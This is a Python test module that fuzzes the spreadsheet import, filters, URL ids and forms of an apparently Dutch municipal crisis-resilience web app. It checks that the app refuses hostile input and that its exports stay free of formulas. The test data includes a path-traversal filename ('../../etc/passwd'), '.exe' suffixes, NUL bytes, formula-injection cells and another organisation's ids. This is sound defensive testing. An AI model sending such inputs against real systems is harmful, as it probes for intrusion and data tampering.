    """By hand rather than with csv.writer, so NUL and stray quotes reach the file as drawn."""

    def cell(value: str) -> str:
        if quote_all or any(c in value for c in (delimiter, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    lines = [delimiter.join(cell(v) for v in line) for line in [header, *rows]]
    return "\r\n".join(lines).encode(encoding, errors="replace")


def _xlsx_bytes(header, rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for line in [header, *rows]:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", value) for value in line])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def draw_spreadsheet(data, cold, scene) -> tuple[str, bytes, list[list[str]]]:
    """A file to import: a sheet with hostile cells (CSV in several encodings and separators, or
    a workbook), or garbage bytes, under a name that may or may not fit; and its rows."""
    kind = data.draw(st.sampled_from(["csv", "csv", "xlsx", "garbage"]), label="kind")
    # Half the sheets are what a person would upload (the columns, a name that fits, cells in
    # the right places), with hostile text in them: so the saving path runs too.
    plausible = data.draw(st.booleans(), label="a plausible sheet")
    rows: list[list[str]] = []
    if kind == "garbage":
        content = data.draw(
            st.binary(max_size=600)
            | st.binary(max_size=600).map(lambda b: b"PK\x03\x04" + b)
            | st.binary(max_size=600).map(lambda b: b"\xef\xbb\xbftitel;thema;fase\r\n" + b),
            label="bytes",
        )
        extension = data.draw(st.sampled_from([".csv", ".xlsx"]), label="extension")
    else:
        header = data.draw(
            st.permutations(IMPORT_COLUMNS).map(list)
            if plausible
            else st.lists(st.sampled_from(IMPORT_COLUMNS) | free_text(), max_size=6),
            label="header",
        )
        cells = {column: cell_text() for column in IMPORT_COLUMNS}
        cells |= {
            "eigenaar": st.sampled_from(
                [cold.owner.username, "Otto Eigenaar", cold.outsider.username, ""]
            )
            | cell_text(),
            "partner eigenaar": st.sampled_from(["Woonstede", "Partner van B", "Oude partner"]),
            "partners": st.sampled_from(["Woonstede; Oude partner", "Partner van B"]),
            "scenario's": st.sampled_from([scene.scenarios[0].title, "Scenario van B"]),
            "budget": budget_text(),
            "start": day_text(),
            "deadline": day_text(),
            "thema": choice_text(["drinkwater", "Drinkwater", "energie"]),
            "fase": choice_text(["koude_fase", "Koude fase"]),
            "status": choice_text(MeasureStatus.values),
        }
        if plausible:  # the owner (a function) stays: hostile text, in the right columns
            cells = {c: cell_text() for c in ("titel", "omschrijving", "middelen")}
        for i in range(data.draw(st.integers(0, 4), label="rows")):
            row = mutate(
                data,
                {
                    "titel": data.draw(cell_text(), label=f"titel {i}"),
                    "thema": "drinkwater",
                    "fase": "koude_fase",
                    "functie eigenaar": "Facilitair",
                },
                cells,
            )
            rows.append([row.get(column, "") for column in header])
        if kind == "xlsx":
            content = _xlsx_bytes(header, rows)
        else:
            content = _csv_bytes(
                header,
                rows,
                data.draw(st.sampled_from([";", ",", "\t"]), label="separator"),
                data.draw(
                    st.sampled_from(["utf-8", "utf-8-sig"] if plausible else ["cp1252", "utf-16"]),
                    label="encoding",
                ),
                data.draw(st.booleans(), label="quote every cell"),
            )
        rows.insert(0, header)
        extension = f".{kind}"
    stem = data.draw(
        st.sampled_from(["maatregelen", "MAATREGELEN", "../../etc/passwd", "a b", ""])
        | free_text().filter(lambda t: "/" not in t and "\\" not in t),
        label="name",
    )
    fitting = [extension, extension.upper()]
    suffixes = fitting if plausible or kind == "garbage" else [*fitting, extension + ".exe", ""]
    suffix = data.draw(st.sampled_from(suffixes), label="suffix")
    # An empty name never reaches the server: the test client (like a browser) sends no file.
    return (stem + suffix) or "naamloos", content, rows


@fuzz(20)
@given(data=st.data())
def test_an_import_survives_any_file(cold, scene, login, data):
    name, content, cells = draw_spreadsheet(data, cold, scene)
    fields = {"file": SimpleUploadedFile(name, content)}
    if data.draw(st.booleans(), label="only the valid rows"):
        fields["valid_only"] = data.draw(choice_text(["on"]), label="valid_only")
    with rolled_back():
        client = login(cold.aov)
        before = Measure.objects.filter(organisation=cold.organisation).count()
        response = client.post(url("measure_import", cold), fields)
        assert_safe(response, name, cells)
        answered(response)
        assert response.status_code in (302, 422), response.status_code
        after = Measure.objects.filter(organisation=cold.organisation).count()
        if response.status_code == 422:
            assert_explained(response)
            assert after == before, "a refused import added measures"
            return
        assert after > before
        new = list(Measure.objects.filter(organisation=cold.organisation).order_by("pk"))[before:]
        for measure in new:
            _belongs(measure, cold)
        page = assert_safe(client.get(url("programme_page", cold)), cells)
        assert_echoed(page, *[m.title for m in new])
        assert_neutral_exports(client, cold)


def assert_neutral_exports(client, cold) -> None:
    """Whatever was imported, the exports hand a spreadsheet program no formula to run."""
    export = client.get(url("programme_csv", cold)).content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(export, newline=""), delimiter=";"):
        for value in row:
            assert not value.startswith(spreadsheets.FORMULA_STARTS), f"formula {value!r}"
    workbook = load_workbook(io.BytesIO(client.get(url("programme_xlsx", cold)).content))
    for line in workbook.active.iter_rows():
        for value in line:
            assert value.data_type != "f", f"formula {value.value!r} in the workbook"


def _sheet(*rows: list[str], columns=("titel", "thema", "fase", "functie eigenaar")) -> bytes:
    return _csv_bytes(list(columns), [list(r) for r in rows], ";", "utf-8", False)


REQUIRED = ("titel", "thema", "fase", "functie eigenaar")
OWNED = ("titel", "thema", "fase", "eigenaar")
DATED = (*REQUIRED, "start", "deadline")
BUDGETED = (*REQUIRED, "budget")
IMPORT_REFUSALS = [
    ("no bytes", "leeg.csv", b""),
    ("only a byte order mark", "bom.csv", b"\xef\xbb\xbf"),
    ("only blank lines", "leeg.csv", b"\r\n\r\n;;;\r\n"),
    ("a header and nothing else", "kop.csv", _sheet()),
    ("random bytes as CSV", "ruis.csv", bytes(range(256)) * 4),
    ("random bytes as workbook", "ruis.xlsx", bytes(range(256)) * 4),
    ("a zip that is no workbook", "zip.xlsx", b"PK\x03\x04" + b"\x00" * 200),
    ("a workbook named CSV", "boek.csv", _xlsx_bytes(["titel", "thema", "fase"], [])),
    ("NUL in a cell", "nul.csv", _sheet(["Te\x00kst", "drinkwater", "koude_fase", "IT"])),
    ("NUL in a header", "nul.csv", b"tit\x00el;thema;fase\r\nA;drinkwater;koude_fase\r\n"),
    ("an unclosed quote", "quote.csv", b'titel;thema;fase\r\n"A;drinkwater;koude_fase\r\n'),
    ("UTF-16 without the header names", "utf16.csv", "a;b\r\n1;2".encode("utf-16")),
    ("a header without titel", "kop.csv", b"naam;thema;fase\r\nA;drinkwater;koude_fase\r\n"),
    ("no owner at all", "b.csv", _sheet(["A", "drinkwater", "koude_fase", ""])),
    (
        "another organisation's partner and scenario",
        "b.csv",
        _sheet(
            ["A", "drinkwater", "koude_fase", "Partner van B", "Scenario van B"],
            columns=("titel", "thema", "fase", "partner eigenaar", "scenario's"),
        ),
    ),
    (
        "another organisation's person",
        "b.csv",
        _sheet(["A", "energie", "koude_fase", "outsider"], columns=OWNED),
    ),
    (
        "dates reversed",
        "d.csv",
        _sheet(["A", "energie", "koude_fase", "IT", "31-12-2031", "01-01-2031"], columns=DATED),
    ),
    (
        "the first day minus one",
        "d.csv",
        _sheet(["A", "energie", "koude_fase", "IT", "00-01-0001", ""], columns=DATED),
    ),
    (
        "a year past 9999",
        "d.csv",
        _sheet(["A", "energie", "koude_fase", "IT", "", "01-01-10000"], columns=DATED),
    ),
    *[
        (
            f"a budget of {budget!r}",
            "b.csv",
            _sheet(["A", "energie", "koude_fase", "IT", budget], columns=BUDGETED),
        )
        for budget in ("NaN", "sNaN", "-5", "-0,01", "1e30", "Infinity", "-Infinity", "9" * 5000)
    ],
    ("a title of 201 characters", "t.csv", _sheet(["x" * 201, "energie", "koude_fase", "IT"])),
    (
        "a name that is no spreadsheet",
        "maatregelen.txt",
        _sheet(["A", "energie", "koude_fase", "IT"]),
    ),
    (
        "more than 2,000 measures",
        "veel.csv",
        _sheet(*[["A", "energie", "koude_fase", "IT"]] * 2001),
    ),
    (
        "one bad row among good ones",
        "mix.csv",
        _sheet(["A", "energie", "koude_fase", "IT"], ["B", "??", "koude_fase", "IT"]),
    ),
]


def test_a_refused_import_says_why_and_adds_no_measures(cold, scene, login):
    client = login(cold.aov)
    failures = []
    for why, name, content in IMPORT_REFUSALS:
        with rolled_back():
            before = Measure.objects.count()
            try:
                response = client.post(
                    url("measure_import", cold), {"file": SimpleUploadedFile(name, content)}
                )
                assert_safe(response)
                assert_explained(response)
                assert Measure.objects.count() == before, "measures were added"
                assert not nul_stored()
            except Exception as error:  # the test client re-raises what the view raised
                failures.append(f"{why}: {type(error).__name__}: {error}"[:300])
    assert not failures, "\n".join(failures)


def test_an_amount_with_its_dots_out_of_place_is_refused_not_guessed(cold, scene, login):
    """A budget cell read with a comma drops every dot as a thousands separator, wherever it
    stands: "1.2.3,4" imports as 123,40 euro without a word, where "1.2.3" gets a message.
    Garbage in a spreadsheet gets a clear message (issue 14), not a guess."""
    client = login(cold.aov)
    guessed = []
    for budget in ("1.2.3,4", "1..5,0", "12.34.5,6", ".,5"):
        with rolled_back():
            content = _sheet(["A", "energie", "koude_fase", "IT", budget], columns=BUDGETED)
            response = client.post(
                url("measure_import", cold), {"file": SimpleUploadedFile("b.csv", content)}
            )
            if response.status_code != 422:
                saved = Measure.objects.filter(organisation=cold.organisation).last().budget
                guessed.append(f"{budget!r} imported as {saved} euro")
    assert not guessed, "\n".join(guessed)


def test_formulas_in_an_imported_sheet_stay_text_in_every_export(cold, scene, login):
    """An imported cell that a spreadsheet would run comes out of the exports as text."""
    rows = [[formula, "energie", "koude_fase", formula.strip() or "IT"] for formula in FORMULAS]
    for kind in ("csv", "xlsx"):
        with rolled_back():
            client = login(cold.aov)
            columns = ["titel", "thema", "fase", "functie eigenaar"]
            content = _sheet(*rows) if kind == "csv" else _xlsx_bytes(columns, rows)
            upload = SimpleUploadedFile(f"formules.{kind}", content)
            response = client.post(
                url("measure_import", cold), {"file": upload, "valid_only": "on"}
            )
            assert response.status_code == 302, kind
            assert_neutral_exports(client, cold)


# -- the programme page's filters --------------------------------------------------------------

FILTERS = {
    "theme": choice_text(MeasureTheme.values),
    "phase": choice_text(MeasurePhase.values),
    "status": choice_text(MeasureStatus.values),
    "overdue": choice_text(["on", "1", "true", "false", "0", "off"]),
    "te_laat": choice_text(["1", "0", "ja"]),
}


@fuzz(15)
@given(data=st.data())
def test_the_programme_filters_survive_any_query(cold, scene, login, data):
    query = data.draw(
        st.fixed_dictionaries(
            {}, optional={k: v | st.lists(v, max_size=3) for k, v in FILTERS.items()}
        ),
        label="query",
    )
    query |= data.draw(st.dictionaries(free_text(), free_text(), max_size=2), label="garbage")
    who = data.draw(st.sampled_from([cold.aov, cold.mayor, cold.org_admin]), label="who")
    with rolled_back():
        response = login(who).get(url("programme_page", cold), query)
        body = assert_safe(response, query)
        answered(response)
        assert response.status_code == 200
        shown = {m.pk for m in Measure.objects.all() if f'id="measure-{m.pk}"' in body}
        mine = Measure.objects.filter(organisation=cold.organisation)
        assert shown <= set(mine.values_list("pk", flat=True))
        theme = query.get("theme")
        if isinstance(theme, str) and theme in MeasureTheme.values:
            themed = set(mine.filter(theme=theme).values_list("pk", flat=True))
            assert shown <= themed
            if not set(query) & {"phase", "status", "overdue", "te_laat"}:
                assert shown == themed
        if query.get("overdue") == "on":  # the box ticked
            assert shown <= {scene.overdue.pk}
        assert scene.foreign_measure.pk not in shown


def test_the_overdue_link_of_the_home_page_shows_only_overdue_measures(cold, scene, login):
    """The home page and the overview link "overdue measures: show them" to the programme
    page: what it opens lists the overdue measure and not the one still on time."""
    client = login(cold.mayor)
    for home in (url("resilience_home", cold), reverse("crisis_list")):
        found = re.search(r'<a href="([^"]+)" data-overdue-count>', page_text(client.get(home)))
        assert found, f"{home} has no link to the overdue measures"
        page = page_text(client.get(unescape(found.group(1))))
        assert f'id="measure-{scene.overdue.pk}"' in page
        assert f'id="measure-{cold.measure.pk}"' not in page, (
            f"{home} links to {found.group(1)}, which shows every measure, not the overdue ones"
        )


# -- ids in the cold phase's addresses -----------------------------------------------------------

ROUTES = [
    (pattern.name, sorted(pattern.pattern.converters))
    for pattern in resilience_urls.urlpatterns
    if pattern.name
]


@fuzz(30)
@given(data=st.data())
def test_any_id_in_a_cold_phase_address_is_a_clean_answer(cold, scene, world, login, data):
    """Every address of the cold phase with any numbers in it (its own ids, another
    organisation's, zero, past any database integer), read and posted to by anyone."""
    name, parameters = data.draw(st.sampled_from(ROUTES), label="address")
    real = [cold.organisation.pk, world.org_b.pk, cold.measure.pk, scene.foreign_measure.pk]
    real += [scene.scenarios[0].pk, scene.foreign_scenario.pk, scene.process.pk, 1, 2]
    anything = ints.filter(lambda n: n >= 0)
    own = st.just(cold.organisation.pk)  # mostly organisation A's, so its objects are reached
    kwargs = {
        p: data.draw((own | anything) if p == "pk" else (st.sampled_from(real) | anything), label=p)
        for p in parameters
    }
    method = data.draw(st.sampled_from(["get", "post"]), label="method")
    who = data.draw(
        st.sampled_from([cold.aov, cold.mayor, cold.owner, cold.member, cold.outsider]),
        label="who",
    )
    with rolled_back():
        response = getattr(login(who), method)(reverse(name, kwargs=kwargs))
        assert_safe(response)
        answered(response)


# -- the sharp edges: every date and number field, NUL in every text field, foreign ids --------
# Hypothesis draws these values too, but only now and then; the sweeps below try each of them in
# each field (the rest of the form valid), so a known edge can never slip through a run.


def valid_measure(cold, scene) -> dict:
    return {
        "title": "Noodwater",
        "theme": "drinkwater",
        "phase": "koude_fase",
        "owner": str(cold.owner.pk),
        "starts_on": today().isoformat(),
        "due_on": (today() + timedelta(days=30)).isoformat(),
        "status": "gepland",
    }


def valid_measure_edit(cold, scene) -> dict:
    revision = Measure.objects.get(pk=cold.measure.pk).revision
    return {**valid_measure(cold, scene), "revision": str(revision)}


def valid_progress(cold, scene) -> dict:
    return {"on": today().isoformat(), "text": "Offerte binnen", "status": "loopt"}


def valid_decision(cold, scene) -> dict:
    return {
        "decided_by": "college",
        "decided_on": today().isoformat(),
        "review_on": (today() + timedelta(days=365)).isoformat(),
        "reasons": "Stroom eerst",
        f"position-{scene.scenarios[0].pk}": "1",
    }


def valid_framework(cold, scene) -> dict:
    return {
        "criteria-TOTAL_FORMS": "1",
        "criteria-INITIAL_FORMS": "1",
        "criteria-0-code": "doden",
        "criteria-0-name": "Doden",
        "criteria-0-weight": "100",
        "note": "Alleen doden",
        "based_on_version": str(Framework.objects.filter(organisation=cold.organisation).count()),
    }


def valid_score(cold, scene) -> dict:
    code = scene.codes[0]
    return {"aspect": code, f"score-{code}-value": "3", f"score-{code}-reasoning": "Zo is het"}


def valid_scenario(cold, scene) -> dict:
    return {"title": "Drinkwater vervuild", "theme": "cyber", "description": "", "sources": ""}


def valid_process(cold, scene) -> dict:
    return {"name": "Burgerzaken", "max_outage_hours": "48", "fallback": "Op papier"}


def valid_process_edit(cold, scene) -> dict:
    revision = CriticalProcess.objects.get(pk=scene.process.pk).revision
    return {**valid_process(cold, scene), "revision": str(revision)}


def valid_partner(cold, scene) -> dict:
    return {"name": "Rode Kruis", "kind": "vrijwilligers", "contact_route": "", "is_active": "on"}


def valid_role(cold, scene) -> dict:
    return {"user": str(cold.owner.pk), "kind": "aov"}


def _at(name, **objects):
    """The address of a form: ``objects`` name the scene's (or cold's) object for each id."""

    def target(cold, scene):
        found = {k: getattr(cold, v, None) or getattr(scene, v) for k, v in objects.items()}
        return url(name, cold, **{k: v.pk for k, v in found.items()})

    return target


FORMS = {  # persona, address, a valid submission
    "scenario": ("aov", _at("scenario_create"), valid_scenario),
    "scenario edit": ("aov", _at("scenario_edit", scenario_pk="archived"), valid_scenario),
    "score": ("aov", _at("scenario_score", scenario_pk="first_scenario"), valid_score),
    "framework": ("aov", _at("framework_edit"), valid_framework),
    "decision": ("mayor", _at("priority_decide"), valid_decision),
    "measure": ("aov", _at("measure_create"), valid_measure),
    "measure edit": ("aov", _at("measure_edit", measure_pk="measure"), valid_measure_edit),
    # The measure's owner without a role gets a narrower form: the work, not the programme.
    "measure owner": ("owner", _at("measure_edit", measure_pk="measure"), valid_measure_edit),
    "progress": ("owner", _at("measure_progress", measure_pk="measure"), valid_progress),
    "process": ("aov", _at("process_create"), valid_process),
    "process edit": ("aov", _at("process_edit", process_pk="process"), valid_process_edit),
    "partner": ("aov", _at("partner_create"), valid_partner),
    "partner edit": ("aov", _at("partner_edit", partner_pk="partner"), valid_partner),
    "role": ("org_admin", _at("resilience_role_set"), valid_role),
}

# The pages that show what each form saves, read after it saved (the page it redirects to is
# read too); the PDFs, slow to render, only after the edges most likely to break a chart.
MEASURE_PAGES = ("programme_page", "programme_csv", "programme_xlsx", "resilience_home")
SHOWN_ON = {
    "scenario": ("scenario_list", "weighing_page", "weighing_csv"),
    "scenario edit": ("scenario_list", "weighing_page", "weighing_csv"),
    "score": ("weighing_page", "weighing_csv", "weighing_xlsx"),
    "framework": ("weighing_page", "weighing_csv", "weighing_xlsx"),
    "decision": ("weighing_page", "resilience_home", "programme_page"),
    "measure": MEASURE_PAGES,
    "measure edit": MEASURE_PAGES,
    "measure owner": MEASURE_PAGES,
    "progress": ("programme_csv", "programme_xlsx"),
    "process": ("process_list",),
    "process edit": ("process_list",),
    "partner": ("partner_list",),
    "partner edit": ("partner_list",),
    "role": ("resilience_roles",),
}
# The edit forms reach the same charts as a new measure does: their PDFs are left to it.
PDFS = {"decision": ("weighing_pdf",), "measure": ("programme_pdf",)}


def signed_in(login, cold) -> dict:
    """A client per persona for a whole sweep, logged in before its first rolled-back example
    (a session made inside one would be rolled back with it)."""
    return {who: login(getattr(cold, who)) for who in ("aov", "owner", "mayor", "org_admin")}


def _post_and_read(clients, cold, scene, form, fields, *, pdf: bool):
    """Post ``fields`` to ``form`` and, when it saved, read the pages that show it. Returns the
    first answer that is a server error, else the post's."""

    def request():
        who, target, _valid = FORMS[form]
        response = clients[who].post(target(cold, scene), fields)
        assert not response.get("Location", "").startswith(resolve_url(settings.LOGIN_URL))
        if response.status_code != 302:
            return response
        names = SHOWN_ON[form] + (PDFS.get(form, ()) if pdf else ())
        for address in [response["Location"], *(url(name, cold) for name in names)]:
            read = clients["aov"].get(address)
            if read.status_code >= 500:
                return read
        if form.startswith("measure "):  # its owner's home page lists it
            return clients["owner"].get(reverse("crisis_list"))
        return response

    return request


DATE_FIELDS = [
    ("measure", ("starts_on", "due_on")),
    ("measure edit", ("starts_on", "due_on")),
    ("measure owner", ("starts_on", "due_on")),
    ("progress", ("on",)),
    ("decision", ("decided_on", "review_on")),
]
PDF_EDGES = ("0001-01-01", "9999-12-31")
# The edges that parse (each differently) and a few that do not; hypothesis draws the rest.
SWEPT_DAYS = (
    *("0001-01-01", "0001-01-07", "9999-12-25", "9999-12-31"),
    *("2031-02-29", "31-12-2031", "+10000-01-01", "0000-00-00", ""),
)


def test_edge_days_in_every_date_field(cold, scene, login):
    clients = signed_in(login, cold)

    def fields(form, field, value):
        valid = FORMS[form][2](cold, scene)
        if field == "due_on":  # without a start, so a due date far back is taken too
            valid.pop("starts_on")
        return {**valid, field: value}

    sweep(
        (
            f"{form} {field}={value!r}",
            _post_and_read(
                clients, cold, scene, form, fields(form, field, value), pdf=value in PDF_EDGES
            ),
        )
        for form, names in DATE_FIELDS
        for field in names
        for value in SWEPT_DAYS
    )


def test_a_measure_spanning_every_day_there_is(cold, scene, login):
    """Both ends at once: from the first day to the last one."""
    fields = {**valid_measure(cold, scene), "starts_on": "0001-01-01", "due_on": "9999-12-31"}
    sweep(
        [
            (
                "measure from 0001 to 9999",
                _post_and_read(signed_in(login, cold), cold, scene, "measure", fields, pdf=True),
            )
        ]
    )


NUMBER_FIELDS = [
    # ids of people, partners, scenarios and measures: a choice of one, and of several
    *[("measure", name, EDGE_NUMBERS) for name in ("owner", "owner_partner")],
    *[("measure", name, EDGE_NUMBERS) for name in ("scenarios", "partners")],
    ("process", "measures", EDGE_NUMBERS),
    ("role", "user", EDGE_NUMBERS),
    ("measure", "budget", BUDGETS),
    ("measure edit", "revision", EDGE_NUMBERS),
    ("measure owner", "revision", EDGE_NUMBERS),
    ("framework", "criteria-0-weight", WEIGHTS),
    ("framework", "based_on_version", EDGE_NUMBERS),
    ("framework", "criteria-TOTAL_FORMS", CHEAP_COUNTS),
    ("framework", "criteria-INITIAL_FORMS", EDGE_NUMBERS),
    ("process", "max_outage_hours", EDGE_NUMBERS),
    ("process edit", "revision", EDGE_NUMBERS),
    ("score", "score-{code}-value", EDGE_NUMBERS),
    ("decision", "position-{first}", EDGE_NUMBERS),
]


def test_edge_numbers_in_every_number_field(cold, scene, login):
    clients = signed_in(login, cold)

    def fields(form, field, value):
        field = field.format(first=scene.scenarios[0].pk, code=scene.codes[0])
        return {**FORMS[form][2](cold, scene), field: value}

    sweep(
        (
            f"{form} {field}={value[:30]!r}",
            _post_and_read(clients, cold, scene, form, fields(form, field, value), pdf=False),
        )
        for form, field, values in NUMBER_FIELDS
        for value in values
    )


TEXT_FIELDS = [
    ("scenario", ("title", "description", "sources")),
    ("score", ("score-{code}-reasoning", "score-{code}-source")),
    ("framework", ("criteria-0-name", "criteria-0-description", "criteria-0-code", "note")),
    ("decision", ("reasons",)),
    ("measure", ("title", "description", "owner_function", "means")),
    ("measure edit", ("title", "description", "owner_function", "means")),
    ("measure owner", ("description", "means")),
    ("progress", ("text",)),
    ("process", ("name", "description", "fallback", "owner_function")),
    ("process edit", ("name", "fallback")),
    ("partner", ("name", "contact_route")),
]


def test_a_nul_character_is_a_form_error_not_a_server_error(cold, scene, login):
    """PostgreSQL refuses NUL in text, so every form must refuse it first, on every database."""
    failures = []
    for form, names in TEXT_FIELDS:
        who, target, valid = FORMS[form]
        for field in (name.format(code=scene.codes[0]) for name in names):
            for value in ("\x00", "Te\x00kst"):
                label = f"{form} {field}={value!r}"
                try:
                    with rolled_back():
                        fields = {**valid(cold, scene), field: value}
                        response = login(getattr(cold, who)).post(target(cold, scene), fields)
                        assert_explained(response)
                        stored = nul_stored()
                        assert not stored, f"NUL stored in {stored}"
                except Exception as error:  # the test client re-raises what the view raised
                    failures.append(f"{label}: {type(error).__name__}: {error}"[:300])
    assert not failures, "NUL not refused:\n" + "\n".join(failures)


def test_another_organisations_ids_are_refused_and_nothing_is_saved(cold, scene, login):
    """A's forms offer only A's people, partners, scenarios and measures; B's ids typed into
    them anyway are refused with a reason, and nothing is saved."""
    foreign = {
        "measure": [
            ("scenarios", [str(scene.foreign_scenario.pk)]),
            ("partners", [str(scene.foreign_partner.pk)]),
            ("owner_partner", str(scene.foreign_partner.pk)),
            ("owner", str(cold.outsider.pk)),
            ("scenarios", [str(scene.archived.pk)]),  # archived: not offered for a new one
            ("partners", [str(scene.retired.pk)]),  # no longer in use: the same
        ],
        "measure edit": [
            ("scenarios", [str(scene.foreign_scenario.pk)]),
            ("partners", [str(scene.partner.pk), str(scene.foreign_partner.pk)]),
            ("owner_partner", str(scene.foreign_partner.pk)),
            ("owner", str(cold.outsider.pk)),
        ],
        "process": [("measures", [str(cold.measure.pk), str(scene.foreign_measure.pk)])],
        "process edit": [("measures", [str(scene.foreign_measure.pk)])],
    }
    failures = []
    for form, changes in foreign.items():
        who, target, valid = FORMS[form]
        for field, value in changes:
            with rolled_back():
                before = _state()
                fields = {**valid(cold, scene), field: value}
                response = login(getattr(cold, who)).post(target(cold, scene), fields)
                try:
                    assert_explained(response)
                    assert _state() == before, "something was saved"
                except AssertionError as error:
                    failures.append(f"{form} {field}={value}: {error}"[:300])
    with rolled_back():
        before = _state()
        admin = login(cold.org_admin)
        fields = {"user": str(cold.outsider.pk), "kind": "aov"}
        response = admin.post(url("resilience_role_set", cold), fields)
        try:
            assert_explained(response)
            assert _state() == before
        except AssertionError as error:
            failures.append(f"role for an outsider: {error}"[:300])
    assert not failures, "\n".join(failures)


def test_a_lost_or_tampered_revision_gets_a_message(cold, scene, login):
    """The revision a form was opened on travels in a hidden field; when it is missing or
    garbled (a truncated or tampered form), the refusal must still say something."""
    failures = []
    for form, field in (
        ("measure edit", "revision"),
        ("measure owner", "revision"),
        ("process edit", "revision"),
        ("framework", "based_on_version"),
    ):
        who, target, valid = FORMS[form]
        client = login(getattr(cold, who))
        for value in (None, "", "abc", "0", "-1", "\u00b2"):
            fields = valid(cold, scene)
            if value is None:
                fields.pop(field)
            else:
                fields[field] = value
            with rolled_back():
                before = _state()
                response = client.post(target(cold, scene), fields)
                try:
                    assert_explained(response)
                    assert _state() == before, "saved without knowing what it was based on"
                except AssertionError as error:
                    failures.append(f"{form} {field}={value!r}: {error}"[:300])
    assert not failures, "\n".join(failures)
